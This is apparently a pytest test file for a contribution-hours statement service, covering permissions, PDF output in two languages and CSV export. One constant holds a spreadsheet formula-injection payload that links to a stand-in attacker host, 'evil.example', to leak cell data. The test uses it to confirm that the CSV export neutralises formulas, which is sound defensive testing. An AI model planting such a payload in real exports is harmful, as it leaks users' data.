"""The professional-development statement: its data, who may read it, and its PDF and CSV."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from pypdf import PdfReader
from sqlalchemy.orm import Session

from bounty.exports.hours_statement import CSV_COLUMNS, statement_csv
from bounty.reports import hours_statement as report
from bounty.services import hours, hours_statement
from bounty.services.actors import SYSTEM, Actor
from bounty.services.errors import InvalidInput, NotFound, PermissionDenied
from bounty.services.hours import HoursInput
from tests import workflow_factories as wf
from tests.service.test_hours import member

SIGNED = datetime(2026, 11, 2, 9, 30, tzinfo=UTC)
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def approved(session: Session, person: Actor, reviewer: Actor, day: date, amount: str, activity: str,
             description: str = "Work", group: str = "WG4") -> None:
    entry = hours.log_hours(session, person, HoursInput(day, amount, activity, group, description),
                            today=day, backdate_days=1)
    hours.review_hours(session, reviewer, entry.id, "approve", "", now=SIGNED)


@pytest.fixture
def year(session) -> dict[str, Actor]:
    """Carla's 2026: approved hours in January, March and November, plus hours that do not count."""
    wf.reference(session)
    carla = wf.actor_of(wf.person(session, "carla", display_name="Carla Martín"))
    renee = member(session, wf.actor_of(wf.person(session, "renee", ("contributor", "reviewer"), "EU",
                                                  display_name="Renée Dubois")), "WG4")
    sam = member(session, wf.reviewer(session, "sam", "UK"), "WG5", "lead")
    approved(session, carla, renee, date(2026, 1, 5), "2.5", "code", "Health checks")
    approved(session, carla, renee, date(2026, 1, 20), "1.25", "review", "Reviewed MR 42")
    approved(session, carla, sam, date(2026, 3, 3), "4", "security", "Token rotation", group="WG5")
    approved(session, carla, renee, date(2026, 11, 1), "0.75", "documentation", HOSTILE)
    # Not counted: pending, rejected, another year, another person.
    hours.log_hours(session, carla, HoursInput(date(2026, 11, 2), "3", "code", "WG4", "Pending"),
                    today=date(2026, 11, 2), backdate_days=1)
    refused = hours.log_hours(session, carla, HoursInput(date(2026, 11, 2), "5", "code", "WG4", "Nope"),
                              today=date(2026, 11, 2), backdate_days=1)
    hours.review_hours(session, renee, refused.id, "reject", "Not ours")
    approved(session, carla, renee, date(2025, 12, 31), "8", "mentoring", "Last year")
    approved(session, wf.contributor(session, "dora"), renee, date(2026, 1, 5), "6", "code", "Dora's")
    return {"carla": carla, "renee": renee, "sam": sam}


def test_the_statement_holds_approved_hours_by_month_and_activity(session, year):
    data = hours_statement.statement(session, year["carla"], "carla", 2026)
    assert (data.username, data.display_name, data.jurisdiction_code, data.year) == (
        "carla", "Carla Martín", "EU", 2026)
    assert [(line.worked_on, line.hours, line.activity, line.reviewer_name) for line in data.lines] == [
        (date(2026, 1, 5), Decimal("2.50"), "code", "Renée Dubois"),
        (date(2026, 1, 20), Decimal("1.25"), "review", "Renée Dubois"),
        (date(2026, 3, 3), Decimal("4.00"), "security", "Sam"),
        (date(2026, 11, 1), Decimal("0.75"), "documentation", "Renée Dubois"),
    ]
    assert all(line.reviewed_at == SIGNED for line in data.lines)
    assert data.lines[2].working_group_code == "WG5"
    assert [m.month for m in data.months] == list(range(1, 13))
    january = data.months[0]
    assert (january.hours("code"), january.hours("review"), january.hours()) == (
        Decimal("2.50"), Decimal("1.25"), Decimal("3.75"))
    assert data.months[1].hours() == 0 and data.months[2].hours("security") == Decimal("4.00")
    assert data.total_hours == Decimal("8.50")
    assert data.activity_hours("code") == Decimal("2.50") and data.activity_hours("mentoring") == 0
    assert sum(m.quarter_hours for m in data.months) == data.quarter_hours == 34
    assert data.reviewers == ["Renée Dubois", "Sam"]


def test_who_may_read_a_statement(session, year):
    admin = wf.admin(session)
    auditor = wf.actor_of(wf.person(session, "aud", ("auditor",)))
    for reader in (year["carla"], admin, auditor, SYSTEM):
        assert hours_statement.statement(session, reader, "carla", 2026).total_hours == Decimal("8.50")
    for stranger in (year["renee"], wf.contributor(session, "dora")):
        with pytest.raises(PermissionDenied, match="only the person, program admins and auditors"):
            hours_statement.statement(session, stranger, "carla", 2026)
    with pytest.raises(NotFound, match="no person 'nobody'"):
        hours_statement.statement(session, admin, "nobody", 2026)
    with pytest.raises(InvalidInput) as refused:
        hours_statement.statement(session, admin, "carla", 1999)
    assert refused.value.field == "year"


def test_a_year_without_approved_hours_is_an_empty_statement(session, year):
    data = hours_statement.statement(session, SYSTEM, "carla", 2024)
    assert data.lines == [] and data.total_hours == 0
    text = pdf_text(report.render_pdf(data, "en"))
    assert "No approved hours in 2024." in text
    assert statement_csv(data).decode("utf-8") == ",".join(CSV_COLUMNS) + "\r\n"


def pdf_text(content: bytes) -> str:
    assert content.startswith(b"%PDF-")
    reader = PdfReader(io.BytesIO(content))
    return "\n".join(page.extract_text() for page in reader.pages)


def test_the_pdf_in_english_shows_totals_months_activities_and_reviewers(session, year):
    data = hours_statement.statement(session, SYSTEM, "carla", 2026)
    content = report.render_pdf(data, "en")
    reader = PdfReader(io.BytesIO(content))
    assert reader.metadata.title == "Professional development statement: Carla Martín, 2026"
    assert reader.metadata.author.startswith("Sovereign-cloud cooperative")
    assert reader.trailer["/Root"]["/Lang"] == "en"
    assert reader.pages[0].mediabox.width == pytest.approx(595.28, abs=0.5)  # A4
    text = pdf_text(content)
    for expected in ("Professional development statement", "Contribution hours 2026", "Carla Martín",
                     "Total approved hours: 8.50", "January", "March", "November", "December",
                     "Code review", "Documentation", "Security", "Mentoring", "Renée Dubois", "Sam",
                     "3.75", "Token rotation", "Signed off by", "Nov 2, 2026"):
        assert expected in text, expected
    for absent in ("Pending", "Nope", "Last year", "Dora's"):
        assert absent not in text
    pages = len(reader.pages)
    for number, page in enumerate(reader.pages, start=1):
        assert f"{number} / {pages}" in page.extract_text()


def test_the_pdf_in_french(session, year):
    data = hours_statement.statement(session, SYSTEM, "carla", 2026)
    content = report.render_pdf(data, "fr")
    reader = PdfReader(io.BytesIO(content))
    assert reader.trailer["/Root"]["/Lang"] == "fr"
    assert reader.metadata.title == "Attestation de développement professionnel\u00a0: Carla Martín, 2026"
    text = pdf_text(content)
    for expected in ("Attestation de développement professionnel", "Heures de contribution 2026",
                     "Total des heures approuvées\u00a0: 8,50",
                     "Janvier", "Mars", "Novembre", "Revue de code", "Sécurité", "Mentorat",
                     "Validé par", "Renée Dubois", "3,75", "2 nov. 2026"):
        assert expected in text, expected
    assert "January" not in text and "Signed off by" not in text


def test_the_csv_parses_back_and_sums_to_the_total(session, year):
    data = hours_statement.statement(session, SYSTEM, "carla", 2026)
    content = statement_csv(data)
    rows = list(csv.DictReader(io.StringIO(content.decode("utf-8"), newline="")))
    assert [row["worked_on"] for row in rows] == ["2026-01-05", "2026-01-20", "2026-03-03", "2026-11-01"]
    assert sum(Decimal(row["hours"]) for row in rows) == data.total_hours == Decimal("8.50")
    assert sum(Decimal(r["hours"]) for r in rows if r["month"] == "01") == Decimal("3.75")
    assert {row["activity"] for row in rows} == {"code", "review", "security", "documentation"}
    assert rows[0]["signed_off_by_name"] == "Renée Dubois" and rows[2]["signed_off_by"] == "sam"
    assert rows[0]["signed_off_at"] == "2026-11-02T09:30:00Z"
    assert rows[0]["display_name"] == "Carla Martín" and rows[0]["working_group"] == "WG4"


def test_the_csv_neutralises_formulas(session, year):
    data = hours_statement.statement(session, SYSTEM, "carla", 2026)
    rows = list(csv.DictReader(io.StringIO(statement_csv(data).decode("utf-8"), newline="")))
    assert rows[-1]["description"] == "'" + HOSTILE
    cells = [cell for row in rows for cell in row.values()]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


@pytest.mark.parametrize(("name", "fmt"), [("out.pdf", "pdf"), ("OUT.CSV", "csv"), ("a/b.c.pdf", "pdf")])
def test_the_format_comes_from_the_extension(name, fmt):
    assert report.format_of(name) == fmt


@pytest.mark.parametrize("name", ["out.xlsx", "out", "pdf", "out.pdf.txt"])
def test_other_extensions_are_refused(name):
    with pytest.raises(report.UnsupportedFormat, match=r"\.pdf or \.csv"):
        report.format_of(name)
